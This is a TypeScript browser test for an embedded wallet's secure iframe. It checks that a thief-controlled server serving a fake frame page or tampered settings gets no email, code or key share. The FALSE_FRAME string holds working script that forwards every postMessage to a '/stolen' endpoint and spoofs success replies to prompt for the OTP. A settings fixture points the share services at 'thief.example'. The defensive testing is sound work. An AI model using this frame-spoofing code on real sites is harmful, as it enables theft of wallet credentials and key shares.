import { emailField, newAddress, withoutWallet } from '../browser/support/embeddedWallet.ts'
import { stack } from '../browser/support/stack.ts'
import { closeBrowser, type Visit, visit } from '../browser/support/visit.ts'

/**
 * The secure site's server belongs to a thief, who wants the address, the code and a share, all of which pass through
 * the frame.
 */

afterAll(closeBrowser)

const REFUSED = 'Your wallet’s page was changed in transit and wasn’t opened.'
const site = stack.urls?.secureSite

/** Forwards everything it receives, and responds so that the visitor goes on to type the code. */
const FALSE_FRAME = `<!doctype html><script>
  addEventListener('message', ({ data }) => {
    fetch('/stolen?' + encodeURIComponent(JSON.stringify(data)))
    const type = data.type.replace('@w3m-app/', '@w3m-frame/') + '_SUCCESS'
    parent.postMessage({ type, id: data.id, payload: { action: 'VERIFY_OTP' } }, '*')
  })
  parent.postMessage({ type: '@w3m-frame/READY', payload: {} }, '*')
</script>`

interface Served {
  readonly path: string
  readonly contentType: string
  readonly body: string
}

/** A visitor of such a server. `stolen` is everything that the thief has received. */
async function visitThief({ path, ...answer }: Served): Promise<{ visitor: Visit; stolen: string[] }> {
  const stolen: string[] = []
  const headers = { 'access-control-allow-origin': '*' }
  const visitor = await visit({
    ...withoutWallet(),
    async prepare(context) {
      await context.route(`${site}${path}`, (route) => route.fulfill({ headers, ...answer }))
      await context.route(`${site}/stolen*`, (route) => {
        stolen.push(decodeURIComponent(new URL(route.request().url()).search.slice(1)))
        return route.fulfill({ body: '' })
      })
    },
  })
  return { visitor, stolen }
}

test.each<[what: string, served: Served]>([
  ['a fake page in the frame', { path: '/sdk*', contentType: 'text/html', body: FALSE_FRAME }],
  ['a fake page beside the frame', { path: '/approve', contentType: 'text/html', body: FALSE_FRAME }],
  [
    'the right page with settings that send everything to the thief',
    {
      path: '/settings.json',
      contentType: 'application/json',
      body: JSON.stringify({
        services: 'https://thief.example',
        shares: { auth: 'https://thief.example', recovery: 'https://thief.example' },
        bundlers: {},
        isDevelopment: true,
      }),
    },
  ],
])('a thief who serves %s gets no address, no code and no share, and the visitor sees an error', async (_, served) => {
  const { visitor, stolen } = await visitThief(served)
  try {
    await visitor.open()
    const email = newAddress()
    await emailField(visitor).fill(email)
    await emailField(visitor).press('Enter')
    await visitor.dialog.getByText(REFUSED).first().or(visitor.view('EmailVerifyOtp')).first().waitFor()
    expect(stolen).toEqual([])
    await visitor.dialog.getByText(REFUSED).first().waitFor()
    expect(await visitor.page.locator('iframe[name=w3m-secure-iframe]').count()).toBe(0)
    expect(
      visitor.requests.filter((url) => url.includes('thief.example') || url.includes(encodeURIComponent(email))),
    ).toEqual([])
  } finally {
    await visitor.end()
  }
})
